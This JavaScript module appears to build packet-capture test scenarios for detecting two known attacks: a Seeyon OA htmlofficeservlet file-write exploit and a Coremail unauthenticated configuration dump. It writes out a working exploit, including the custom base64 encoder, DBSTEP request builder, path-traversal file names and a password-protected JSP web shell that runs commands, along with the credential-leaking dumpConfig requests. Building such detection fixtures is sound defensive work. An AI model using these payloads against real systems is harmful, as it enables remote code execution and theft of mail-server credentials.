/** Seeyon and Coremail. */
import { blocked, notFound, page, toLogin } from './answers.mjs';

/** The office control's own base64 alphabet. */
const ALPHABET = 'gx74KW1roM9qwzPFVOBLSlYaeyncdNbI=JfUCQRHtj2+Z05vshXi3GAEuT/m8Dpk6';
const STANDARD = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';
const encode = (value) => [...Buffer.from(value).toString('base64')].map((c) => ALPHABET[STANDARD.indexOf(c)]).join('');

function dbstep(fields, file) {
  const lines = Object.entries(fields).map(([k, v]) => `${k}=${encode(v)}\r\n`).join('');
  const size = (n) => String(n).padEnd(16);
  return `DBSTEP V3.0     ${size(lines.length)}${size(0)}${size(file.length)}DBSTEP=${encode('DBSTEP')}\r\n${lines}${file}`;
}
const shell = '<%@ page language="java" import="java.util.*,java.io.*" pageEncoding="UTF-8"%><%if("calsee".equals(request.getParameter("pwd"))){out.println(Runtime.getRuntime().exec(request.getParameter("cmd")));}%>';
const common = { OPTION: 'SAVEASIMG', currentUserId: '-7273032013234748168', CREATEDATE: '2019-06-26', RECORDID: '-4343034', originalFileId: '1', originalCreateDate: '2019-06-26' };
const post = (path, body) => [path, '-X', 'POST', '-H', 'Content-Type: application/octet-stream', '--data-binary', body];
const answerSaved = () => [200, { 'Content-Type': 'text/html' }, dbstep({ STATUS: 'OK', OPTION: 'SAVEASIMG', FILENAME: 'x' }, '')];

const seeyon = 'office/seeyon-htmlofficeservlet/';
const seeyonScenarios = [
  { file: `${seeyon}written.pcap`, answer: (q) => (q.method === 'POST' ? answerSaved() : page('uid=0(root) gid=0(root)')),
    requests: [post('/seeyon/htmlofficeservlet', dbstep({ ...common, FILENAME: '..\\..\\..\\ApacheJetspeed\\webapps\\seeyon\\test123456.jsp', needReadFile: 'false' }, shell)), ['/seeyon/test123456.jsp?pwd=calsee&cmd=id']] },
  { file: `${seeyon}written-slash.pcap`, port: 8080, answer: answerSaved, requests: [post('/seeyon/htmlofficeservlet', dbstep({ ...common, FILENAME: '../../../ApacheJetspeed/webapps/ROOT/n.jspx' }, shell))] },
  { file: `${seeyon}removed.pcap`, answer: notFound, requests: [post('/seeyon/htmlofficeservlet', dbstep({ ...common, FILENAME: '..\\..\\..\\ApacheJetspeed\\webapps\\seeyon\\a.jsp' }, shell))] },
  { file: `${seeyon}blocked.pcap`, answer: blocked, requests: [post('/seeyon/htmlofficeservlet', dbstep({ ...common, FILENAME: '../../../a.jsp' }, shell))] },
  { file: `${seeyon}miss-office-control.pcap`, answer: answerSaved, client: '10.42.3.57',
    requests: [post('/seeyon/officeservlet', dbstep({ OPTION: 'LOADFILE', RECORDID: '88123', FILENAME: '通知.doc' }, '')), post('/seeyon/htmlofficeservlet', dbstep({ OPTION: 'SAVEASHTML', RECORDID: '88123', FILENAME: 'body.htm' }, '<html><body>关于印发通知</body></html>')), ['/seeyon/htmlofficeservlet']] },
];

const coremail = 'office/coremail-config-dump/';
const dumped = '<?xml version="1.0" encoding="UTF-8"?><result><code>S_OK</code><object><string name="CoremailInstallHome">/home/coremail</string><object name="cm_md_db"><string name="User">coremail</string><string name="Password">x</string></object></object></result>';
const coremailScenarios = [
  { file: `${coremail}dumped.pcap`, answer: () => [200, { 'Content-Type': 'text/xml; charset=UTF-8' }, dumped], requests: [['/mailsms/s?func=ADMIN:appState&dumpConfig=/'], ['/mailsms/s?func=ADMIN%3AappState&dumpConfig=%2F']] },
  { file: `${coremail}patched.pcap`, answer: () => [200, { 'Content-Type': 'text/xml' }, '<?xml version="1.0"?><result><code>FS_IP_NOT_PERMITTED</code></result>'], requests: [['/mailsms/s?func=ADMIN:appState&dumpConfig=/']] },
  { file: `${coremail}to-login.pcap`, answer: toLogin, requests: [['/mailsms/s?dumpConfig=/&func=ADMIN:appState']] },
  { file: `${coremail}miss-mail.pcap`, answer: () => page('Coremail 邮件系统'), client: '10.42.3.57', requests: [['/coremail/index.jsp?cus=1'], ['/mailsms/s?func=user:login&sid=AB12'], ['/help?topic=/home/coremail/conf&q=dumpConfig']] },
];

export default [...seeyonScenarios, ...coremailScenarios];
